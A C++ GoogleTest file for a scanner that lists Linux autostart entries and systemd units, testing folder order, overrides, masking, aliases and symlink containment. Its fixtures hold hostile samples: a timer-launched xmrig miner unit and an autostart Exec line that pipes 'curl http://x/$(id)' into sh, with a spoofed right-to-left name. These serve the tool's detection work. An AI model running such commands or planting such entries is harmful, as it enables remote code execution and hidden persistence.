#include "core/launchd/LaunchAgentScanner.h"
#include "support/TempTree.h"

#include <gtest/gtest.h>

#include <algorithm>

namespace qm {
namespace {

using D = LaunchDomain;
using Scan = LaunchAgentScanner::Scan;

// A desktop home and a system root laid out as this platform lays them out, each under a parent folder
// of its own.
class LaunchSourcesTest : public ::testing::Test
{
protected:
    Path home() const { return tree.path("home/u"); }
    Path configHome() const { return home() / ".config"; }
    Path dataHome() const { return home() / ".local/share"; }
    Path root() const { return tree.path("root/sys"); }
    Path userAutostart() const { return configHome() / "autostart"; }
    Path userUnits() const { return configHome() / "systemd/user"; }
    Path systemAutostart() const { return root() / "etc/xdg/autostart"; }
    Path globalUserUnits() const { return root() / "etc/systemd/user"; }
    Path systemUnits() const { return root() / "etc/systemd/system"; }
    Path packageUserUnits() const { return root() / "usr/lib/systemd/user"; }
    Path packageSystemUnits() const { return root() / "usr/lib/systemd/system"; }

    Scan scan() const
    {
        return LaunchAgentScanner({}, LaunchAgentScanner::standardDirs(
                                          Places::resolveWith(home(), {}, root(), std::nullopt)))
            .scanWithCoverage();
    }

    Path entry(const Path& folder, const std::string& id, const std::string& body)
    {
        return tree.fileWithContent(folder / (id + ".desktop"),
                                    QByteArray::fromStdString("[Desktop Entry]\nType=Application\n" + body));
    }

    Path unit(const Path& folder, const std::string& name, const std::string& exec,
              const std::string& extra = {})
    {
        return tree.fileWithContent(folder / name,
                                    QByteArray::fromStdString("[Unit]\nDescription=" + name + " job\n" +
                                                              extra + "[Service]\nExecStart=" + exec +
                                                              "\n[Install]\nWantedBy=default.target\n"));
    }

    // Enables `name` from `folder`'s `target`.wants, with a link to `unitFile`.
    Path enable(const Path& folder, const std::string& target, const std::string& name, const Path& unitFile)
    {
        return tree.symlink(unitFile, folder / (target + ".wants") / name);
    }

    static const LaunchAgent* byLabel(const Scan& scan, const QString& label)
    {
        const auto it = std::find_if(scan.agents.begin(), scan.agents.end(),
                                     [&](const LaunchAgent& a) { return a.label == label; });
        return it == scan.agents.end() ? nullptr : &*it;
    }

    test::TempTree tree;
};

TEST_F(LaunchSourcesTest, TheStandardFoldersOfThisSystem)
{
    const auto dirs = LaunchAgentScanner::standardDirs(Places::resolveWith("/h", {}, "/", std::nullopt));
    ASSERT_EQ(dirs.size(), 5u);
    const std::vector<std::tuple<D, Path, LaunchSource>> expected{
        {D::userAgent, "/h/.config/autostart", LaunchSource::autostartEntry},
        {D::userAgent, "/h/.config/systemd/user", LaunchSource::systemdUnit},
        {D::systemAgent, "/etc/xdg/autostart", LaunchSource::autostartEntry},
        {D::systemAgent, "/etc/systemd/user", LaunchSource::systemdUnit},
        {D::systemDaemon, "/etc/systemd/system", LaunchSource::systemdUnit},
    };
    for (std::size_t i = 0; i < dirs.size(); ++i) {
        EXPECT_EQ(std::tie(dirs[i].domain, dirs[i].url, dirs[i].source),
                  std::tie(std::get<0>(expected[i]), std::get<1>(expected[i]), std::get<2>(expected[i])))
            << i;
    }
    EXPECT_EQ(dirs[1].unitPath, (std::vector<Path>{"/h/.config/systemd/user", "/etc/systemd/user",
                                                   "/h/.local/share/systemd/user",
                                                   "/usr/local/lib/systemd/user", "/usr/lib/systemd/user"}));
    EXPECT_EQ(dirs[3].unitPath, dirs[1].unitPath);
    EXPECT_EQ(dirs[4].unitPath, (std::vector<Path>{"/etc/systemd/system", "/usr/local/lib/systemd/system",
                                                   "/usr/lib/systemd/system", "/lib/systemd/system"}));

    // The XDG settings move the user's folders, and every config dir has its autostart entries, in order.
    const auto moved = LaunchAgentScanner::standardDirs(Places::resolveWith(
        "/h", {{"XDG_CONFIG_HOME", "/h/cfg"}, {"XDG_CONFIG_DIRS", "/etc/xdg/xdg-x:/etc/xdg"}}, "/r",
        std::nullopt));
    std::vector<Path> urls;
    for (const auto& dir : moved)
        urls.push_back(dir.url);
    EXPECT_EQ(urls,
              (std::vector<Path>{"/h/cfg/autostart", "/h/cfg/systemd/user", "/etc/xdg/xdg-x/autostart",
                                 "/etc/xdg/autostart", "/r/etc/systemd/user", "/r/etc/systemd/system"}));
}

TEST_F(LaunchSourcesTest, EachSourceGivesItsJobs)
{
    const Path userEntry = entry(userAutostart(), "notes",
                                 "Name=Notes\nComment=Take notes\nExec=/usr/bin/notes "
                                 "--hidden %U\nOnlyShowIn=GNOME;KDE;\n");
    const Path systemEntry =
        entry(systemAutostart(), "print-applet", "Name=Print\nExec=print-applet\nNotShowIn=KDE;\n");
    const Path userUnit = unit(userUnits(), "sync.service", "/usr/bin/python3 /home/u/sync.py --quiet");
    const Path link = enable(userUnits(), "default.target", "sync.service", userUnit);
    const Path globalUnit = unit(packageUserUnits(), "agent.service", "@/usr/libexec/agent agent -d");
    const Path globalLink =
        enable(globalUserUnits(), "graphical-session.target", "agent.service", globalUnit);
    const Path daemon = unit(packageSystemUnits(), "sshd.service", "-/usr/sbin/sshd -D");
    const Path daemonLink = enable(systemUnits(), "multi-user.target", "sshd.service", daemon);

    const Scan result = scan();
    EXPECT_TRUE(result.unreadableDomains.empty());
    ASSERT_EQ(result.agents.size(), 5u);

    const LaunchAgent* notes = byLabel(result, "Notes");
    ASSERT_TRUE(notes);
    EXPECT_EQ(notes->url, userEntry);
    EXPECT_EQ(notes->domain, D::userAgent);
    EXPECT_EQ(notes->source, LaunchSource::autostartEntry);
    EXPECT_EQ(notes->program, "/usr/bin/notes");
    EXPECT_EQ(notes->arguments, QStringList{"--hidden"});
    EXPECT_EQ(notes->description, "Take notes");
    EXPECT_EQ(notes->onlyShowIn, QStringList({"GNOME", "KDE"}));
    EXPECT_TRUE(notes->runAtLoad);
    EXPECT_TRUE(notes->enableLinks.empty());

    const LaunchAgent* print = byLabel(result, "Print");
    ASSERT_TRUE(print);
    EXPECT_EQ(print->url, systemEntry);
    EXPECT_EQ(print->domain, D::systemAgent);
    EXPECT_EQ(print->program, "print-applet");
    EXPECT_EQ(print->notShowIn, QStringList{"KDE"});

    const LaunchAgent* sync = byLabel(result, "sync.service");
    ASSERT_TRUE(sync);
    EXPECT_EQ(sync->url, userUnit);
    EXPECT_EQ(sync->domain, D::userAgent);
    EXPECT_EQ(sync->source, LaunchSource::systemdUnit);
    EXPECT_EQ(sync->program, "/usr/bin/python3");
    EXPECT_EQ(sync->script, "/home/u/sync.py");
    EXPECT_EQ(sync->description, "sync.service job");
    EXPECT_EQ(sync->enableLinks, std::vector<Path>{link});

    const LaunchAgent* agent = byLabel(result, "agent.service");
    ASSERT_TRUE(agent);
    EXPECT_EQ(agent->url, globalUnit);
    EXPECT_EQ(agent->domain, D::systemAgent);
    EXPECT_EQ(agent->program, "/usr/libexec/agent");
    EXPECT_EQ(agent->arguments, QStringList{"-d"});
    EXPECT_EQ(agent->enableLinks, std::vector<Path>{globalLink});

    const LaunchAgent* sshd = byLabel(result, "sshd.service");
    ASSERT_TRUE(sshd);
    EXPECT_EQ(sshd->url, daemon);
    EXPECT_EQ(sshd->domain, D::systemDaemon);
    EXPECT_EQ(sshd->program, "/usr/sbin/sshd");
    EXPECT_EQ(sshd->enableLinks, std::vector<Path>{daemonLink});
}

TEST_F(LaunchSourcesTest, AUserEntryOverridesTheSystemsAndDisabledEntriesStartNothing)
{
    entry(systemAutostart(), "hidden-by-user", "Name=Hidden By User\nExec=/opt/a\n");
    entry(userAutostart(), "hidden-by-user", "Hidden=true\n");
    entry(systemAutostart(), "replaced", "Name=System Copy\nExec=/opt/system\n");
    const Path replacement = entry(userAutostart(), "replaced", "Name=User Copy\nExec=/opt/user\n");
    entry(systemAutostart(), "gnome-off", "Name=Off\nExec=/opt/b\nX-GNOME-Autostart-enabled=false\n");
    entry(userAutostart(), "own-hidden", "Name=Own Hidden\nExec=/opt/c\nHidden=true\n");
    entry(systemAutostart(), "still-on",
          "Name=Still On\nExec=/opt/d\nX-GNOME-Autostart-enabled=true\nHidden=false\n");
    // A user entry that cannot be read hides nothing: the system's stays listed, and the gap shows.
    tree.fileWithContent(userAutostart() / "broken.desktop", "not an entry\n");
    entry(systemAutostart(), "broken", "Name=Broken System\nExec=/opt/e\n");

    const Scan result = scan();
    std::vector<QString> labels;
    for (const LaunchAgent& agent : result.agents)
        labels.push_back(agent.label);
    EXPECT_EQ(labels, (std::vector<QString>{"Broken System", "Still On", "User Copy"}));
    EXPECT_EQ(byLabel(result, "User Copy")->url, replacement);
    EXPECT_EQ(byLabel(result, "User Copy")->domain, D::userAgent);
    EXPECT_EQ(result.unreadableDomains, std::vector<D>{D::userAgent});
}

TEST_F(LaunchSourcesTest, UnitsEnabledTwiceDanglingMaskedAndAliased)
{
    // One unit enabled from two targets: one job with both links, in path order.
    const Path twice = unit(userUnits(), "twice.service", "/opt/twice");
    const Path second = enable(userUnits(), "graphical-session.target", "twice.service", twice);
    const Path first = enable(userUnits(), "default.target", "twice.service", "../twice.service");
    // A link to a unit that is nowhere: no job and no gap.
    tree.symlink(userUnits() / "gone.service", userUnits() / "default.target.wants/gone.service");
    // Masked in a folder read first: left out.
    unit(packageUserUnits(), "masked.service", "/opt/masked");
    tree.symlink("/dev/null", userUnits() / "masked.service");
    enable(userUnits(), "default.target", "masked.service", packageUserUnits() / "masked.service");
    // An alias that leads straight into another unit folder is read there.
    const Path real = unit(packageUserUnits(), "real.service", "/opt/real");
    tree.symlink(real, userUnits() / "alias.service");
    enable(userUnits(), "default.target", "alias.service", userUnits() / "alias.service");
    // An instance read from its template.
    const Path templ = unit(packageUserUnits(), "worker@.service", "/opt/worker %i");
    enable(userUnits(), "default.target", "worker@one.service", templ);
    // A timer runs the service of its name.
    const Path timer = tree.fileWithContent(userUnits() / "miner.timer", "[Timer]\nOnBootSec=1\n");
    unit(userUnits(), "miner.service", "/opt/xmrig -o pool");
    enable(userUnits(), "timers.target", "miner.timer", timer);

    const Scan result = scan();
    EXPECT_TRUE(result.unreadableDomains.empty());
    std::vector<QString> labels;
    for (const LaunchAgent& agent : result.agents)
        labels.push_back(agent.label);
    EXPECT_EQ(labels,
              (std::vector<QString>{"alias.service", "miner.timer", "twice.service", "worker@one.service"}));
    EXPECT_EQ(byLabel(result, "miner.timer")->url, timer);
    EXPECT_EQ(byLabel(result, "miner.timer")->program, "/opt/xmrig");
    EXPECT_EQ(byLabel(result, "twice.service")->enableLinks, (std::vector<Path>{first, second}));
    EXPECT_EQ(byLabel(result, "twice.service")->url, twice);
    EXPECT_EQ(byLabel(result, "alias.service")->url, real);
    EXPECT_EQ(byLabel(result, "alias.service")->program, "/opt/real");
    EXPECT_EQ(byLabel(result, "worker@one.service")->url, templ);
}

TEST_F(LaunchSourcesTest, NoLinkIsFollowedOutOfItsFolder)
{
    // The unit file itself is a link to a file outside every unit folder; the autostart entry is a
    // link too; a "*.wants" folder is a link; a unit is linked from outside the unit path.
    const Path outside = tree.fileWithContent("elsewhere/evil.service", "[Service]\nExecStart=/opt/evil\n");
    tree.symlink(outside, userUnits() / "evil.service");
    enable(userUnits(), "default.target", "evil.service", userUnits() / "evil.service");
    tree.fileWithContent("elsewhere/evil.desktop", "[Desktop Entry]\nExec=/opt/evil\n");
    tree.symlink(tree.path("elsewhere/evil.desktop"), userAutostart() / "evil.desktop");
    tree.folder("elsewhere/x.target.wants");
    tree.symlink(tree.path("elsewhere/x.target.wants"), globalUserUnits() / "x.target.wants");
    enable(systemUnits(), "multi-user.target", "linked.service", tree.path("elsewhere/evil.service"));
    tree.fifo(systemAutostart() / "fifo.desktop");

    const Scan result = scan();
    EXPECT_TRUE(result.agents.empty());
    EXPECT_EQ(result.unreadableDomains, (std::vector<D>{D::userAgent, D::systemAgent, D::systemDaemon}));
}

TEST_F(LaunchSourcesTest, HostileCommandsStayPlainText)
{
    entry(userAutostart(), "hostile",
          "Name=<b>Update</b>\u202Etxt.exe\nExec=sh -c \"curl -s http://x/$(id) | sh\" `whoami` %u\n");
    const Scan result = scan();
    ASSERT_EQ(result.agents.size(), 1u);
    const LaunchAgent& agent = result.agents.front();
    EXPECT_EQ(agent.label, QStringLiteral("<b>Update</b>\u202Etxt.exe"));
    EXPECT_EQ(agent.program, "sh");
    EXPECT_EQ(agent.arguments, QStringList({"-c", "curl -s http://x/$(id) | sh", "`whoami`"}));
    EXPECT_EQ(agent.script, std::nullopt);
}

} // namespace
} // namespace qm
